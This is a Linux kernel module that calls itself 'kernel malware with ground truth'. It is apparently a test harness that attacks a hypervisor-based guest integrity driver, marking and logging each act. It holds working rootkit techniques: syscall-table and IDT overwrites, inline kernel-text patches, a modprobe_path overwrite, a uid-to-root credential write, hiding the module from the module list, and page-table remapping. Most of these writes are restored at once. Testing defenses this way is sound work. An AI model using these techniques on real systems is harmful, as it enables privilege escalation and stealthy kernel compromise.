// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Kernel malware with ground truth: every act is preceded by a mark and followed by a line on the log
 * that says what was hit. An act always leaves other bytes than it found; they are put back at once
 * under a mark of their own (act + 100), because the guest has to live on.
 *
 * Guest code cannot see what an emulated hypervisor would decide, so every act succeeds here.
 */
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>

#include "gi.h"

static unsigned long text_start, syscalls, idt, modprobe, victim_function;
module_param(text_start, ulong, 0444);
module_param(syscalls, ulong, 0444);
module_param(idt, ulong, 0444);
module_param(modprobe, ulong, 0444);
module_param(victim_function, ulong, 0444);
MODULE_PARM_DESC(victim_function, "a kernel function nobody calls, for the inline patch");

static const struct gi_view *gi;
static unsigned long next_act = 200;

#define RESTORE 100

static void report(const char *attack, const char *name, const char *kind, unsigned long act, phys_addr_t gpa,
		   unsigned int bytes, const char *expected)
{
	pr_info("rootkit: act mark=%lu attack=%s name=%s kind=%s gpa=0x%llx bytes=%u expected=%s\n", act, attack, name,
		kind, gpa, bytes, expected);
	msleep(15);
}

/* A writable window onto two guest-physical pages, as malware makes one onto read-only memory. */
static void *open_window(phys_addr_t gpa)
{
	struct page *pages[2] = { pfn_to_page(gpa >> PAGE_SHIFT), pfn_to_page((gpa >> PAGE_SHIFT) + 1) };
	void *window = vmap(pages, 2, VM_MAP, PAGE_KERNEL);

	return window ? window + offset_in_page(gpa) : NULL;
}

static void close_window(void *window)
{
	vunmap((void *)((unsigned long)window & PAGE_MASK));
}

/* Flips `flip` in the eight bytes at `gpa` by one store, and puts them back by another. */
static void overwrite(const char *attack, const char *name, phys_addr_t gpa, u64 flip, const char *expected)
{
	unsigned long act = next_act++;
	u64 *window = open_window(gpa);
	u64 old;

	if (!window) {
		pr_err("rootkit: no window for %s\n", name);
		return;
	}
	old = READ_ONCE(*window);
	gi_mark(act);
	WRITE_ONCE(*window, old ^ flip);
	gi_mark(act + RESTORE);
	WRITE_ONCE(*window, old);
	close_window(window);
	report(attack, name, "write", act, gpa, sizeof(old), expected);
	report(attack, name, "restore", act + RESTORE, gpa, sizeof(old), expected);
}

/* Hypercalls from the rootkit's own code. The label is where the instruction lies. */
#define FORGE(number, rdi, rsi, rdx, r10, rip)                                                                    \
	do {                                                                                                      \
		register unsigned long fourth asm("r10") = (r10);                                                 \
		unsigned long rax = (number);                                                                     \
		asm volatile("lea 1f(%%rip), %1\n1:" GI_HYPERCALL_INSTRUCTION                                     \
			     : "+a"(rax), "=&r"(rip)                                                              \
			     : "D"(rdi), "S"(rsi), "d"(rdx), "r"(fourth)                                          \
			     : "memory");                                                                         \
	} while (0)

static void forge_hypercalls(void)
{
	unsigned long rip, act = next_act++;

	gi_mark(act);
	FORGE(GI_UNPROTECT, gi->data->region[0].first, gi->data->region[0].pages, 0UL, 0UL, rip);
	report("A1", "unprotect-from-own-code", "hypercall", act, slow_virt_to_phys((void *)rip), 7, "refused");

	act = next_act++;
	gi_mark(act);
	FORGE(GI_ENTER, 0UL, 0UL, 0UL, 0UL, rip);
	report("A2", "enter-from-own-code", "hypercall", act, slow_virt_to_phys((void *)rip), 7, "refused");

	/* Jump to the genuine entry instruction, interrupts on. */
	act = next_act++;
	gi_mark(act);
	asm volatile("mov %1, %%rax\n" CALL_NOSPEC
		     : ASM_CALL_CONSTRAINT
		     : "i"(GI_ENTER), THUNK_TARGET(gi->entry)
		     : "rax", "memory");
	report("A8", "enter-with-interrupts-on", "hypercall", act, slow_virt_to_phys(gi->entry), 7,
	       "refused");
}

static void attack_driver(void)
{
	phys_addr_t code = slow_virt_to_phys(gi->code);

	overwrite("A3", "patch-driver-code", code + PAGE_SIZE - 16, 0xff, "gi-code");
	overwrite("A4", "edit-driver-data", __pa(&gi->data->vcpu[1].changed), 0x100, "gi-data");
	overwrite("A5", "edit-first-node", __pa(gi->nodes) + 8, 0x4141414141414141, "gi-nodes");
	overwrite("A5", "edit-last-node", __pa(gi->nodes) + (GI_NODE_PAGES - 1) * PAGE_SIZE + 64, 0x42, "gi-nodes");
}

static void attack_kernel(void)
{
	overwrite("syscall-hook", "hook-ustat", __pa(syscalls + 136 * 8), 0x10, "syscall-table");
	overwrite("text-patch", "inline-jump", __pa(victim_function), 0x12345678e9, "kernel-text");
	overwrite("idt-gate", "gate-9-offset", __pa(idt + 9 * 16), 0x40, "idt");
	overwrite("modprobe-path", "overwrite-modprobe-path", __pa(modprobe), 0x20202020, "modprobe_path");
	overwrite("A19", "run-into-modprobe-path", __pa(modprobe) - 4, 0x2000000000, "modprobe_path");
	overwrite("A20", "straddle-into-text", __pa(text_start) - 4, 0x100000000, "kernel-text");
}

static void overwrite_credentials(void)
{
	unsigned long act = next_act++;
	struct cred *cred = prepare_creds();
	uid_t *uid;

	if (!cred)
		return;
	cred->uid = KUIDT_INIT(1000);
	commit_creds(cred);
	uid = (uid_t *)&current->cred->uid;
	gi_mark(act);
	WRITE_ONCE(*uid, 0);
	report("credentials", "become-root", "write", act, __pa(uid), sizeof(*uid), "none");
}

static void hide_module(void)
{
	unsigned long act = next_act++;
	struct list_head *before = THIS_MODULE->list.prev, *after = THIS_MODULE->list.next;
	phys_addr_t gpa = slow_virt_to_phys(&before->next);

	preempt_disable();
	gi_mark(act);
	WRITE_ONCE(before->next, after);
	WRITE_ONCE(after->prev, before);
	gi_mark(act + RESTORE);
	WRITE_ONCE(after->prev, &THIS_MODULE->list);
	WRITE_ONCE(before->next, &THIS_MODULE->list);
	preempt_enable();
	report("hide-module", "unlink-from-module-list", "write", act, gpa, 8, "none");
	report("hide-module", "unlink-from-module-list", "restore", act + RESTORE, gpa, 8, "none");
}

static void flush_page(void *address)
{
	asm volatile("invlpg (%0)" : : "r"(address) : "memory");
}

/* Maps the driver's code page to a copy, runs the driver from there, maps the original again. */
static void remap_driver(void)
{
	unsigned long act = next_act++, pass = next_act++;
	struct page *copy = alloc_page(GFP_KERNEL);
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)gi->code, &level);
	phys_addr_t gpa = __pa(pte);
	u64 old;

	if (!copy || !pte || level != PG_LEVEL_4K)
		return;
	copy_page(page_address(copy), gi->code);
	*(u8 *)(page_address(copy) + PAGE_SIZE - 1) = 0x90;
	old = pte_val(READ_ONCE(*pte));

	gi_mark(act);
	WRITE_ONCE(*(u64 *)pte, (old & ~PTE_PFN_MASK) | page_to_phys(copy));
	on_each_cpu(flush_page, gi->code, 1);
	gi_mark(pass);
	gi->pass();
	gi_mark(act + RESTORE);
	WRITE_ONCE(*(u64 *)pte, old);
	on_each_cpu(flush_page, gi->code, 1);

	report("A14", "remap-driver-code", "write", act, gpa, 8, "page-tables");
	report("A7", "enter-from-remapped-page", "hypercall", pass,
	       page_to_phys(copy) + offset_in_page(gi->entry), 7, "refused");
	report("A14", "remap-driver-code", "restore", act + RESTORE, gpa, 8, "page-tables");
}

/* The driver itself stores to a protected page that is not its data, in integrity mode. */
static void make_driver_stray(void)
{
	unsigned long act = next_act++;
	phys_addr_t gpa = __pa(idt + 9 * 16);
	u64 *window = open_window(gpa);
	u64 old;

	if (!window)
		return;
	old = READ_ONCE(*window);
	gi_mark(act);
	gi->stray(window, old ^ 0x80);
	gi_mark(act + RESTORE);
	gi->stray(window, old);
	close_window(window);
	report("R7", "driver-writes-idt", "write", act, gpa, 8, "idt");
	report("R7", "driver-writes-idt", "restore", act + RESTORE, gpa, 8, "idt");
}

/* vCPU 1 writes the driver's data while vCPU 0 is in integrity mode. */
static void write_during_foreign_window(void)
{
	unsigned long act = next_act++;
	volatile u64 *open = &gi->data->vcpu[0].open;
	u64 *word = &gi->data->vcpu[1].changed;
	u64 old = READ_ONCE(*word);
	unsigned long tries = 0;
	bool seen;

	gi->hold(0);
	while (!*open && ++tries < 10000000)
		cpu_relax();
	preempt_disable();
	gi_mark(act);
	WRITE_ONCE(*word, old ^ 0x200);
	seen = *open;
	gi_mark(act + RESTORE);
	WRITE_ONCE(*word, old);
	preempt_enable();
	report("A11", seen ? "write-during-foreign-window" : "write-after-foreign-window", "write", act, __pa(word), 8,
	       "gi-data");
	report("A11", "write-during-foreign-window", "restore", act + RESTORE, __pa(word), 8, "gi-data");
}

static int __init rootkit_start(void)
{
	gi = gi_view();
	if (set_cpus_allowed_ptr(current, cpumask_of(1)))
		return -EINVAL;
	forge_hypercalls();
	attack_driver();
	attack_kernel();
	overwrite_credentials();
	hide_module();
	remap_driver();
	make_driver_stray();
	write_during_foreign_window();
	return 0;
}

static void __exit rootkit_stop(void)
{
}

module_init(rootkit_start);
module_exit(rootkit_stop);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Attacks on the recorded guest, with ground truth");
